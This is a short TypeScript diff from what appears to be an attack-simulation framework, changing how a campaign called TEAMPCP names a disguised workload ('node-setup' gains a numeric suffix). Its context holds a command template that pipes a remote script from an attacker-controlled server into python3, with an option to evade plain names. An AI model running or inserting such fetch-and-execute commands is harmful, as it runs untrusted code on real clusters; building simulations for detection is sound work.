@@ -14,7 +14,7 @@ export const TEAMPCP: Campaign = {
   rows: (attack) => {
     const { server, namespace, evades } = attack
     const web = [[server, 80]] as const
-    const name = evades('plain-names') ? `cache-${attack.random.fork('n').suffix(4)}` : 'node-setup'
+    const name = evades('plain-names') ? `cache-${attack.random.fork('n').suffix(4)}` : `node-setup${attack.nth}`
     const line = `curl -s http://${server}/kube.py | python3`
     return [
       [
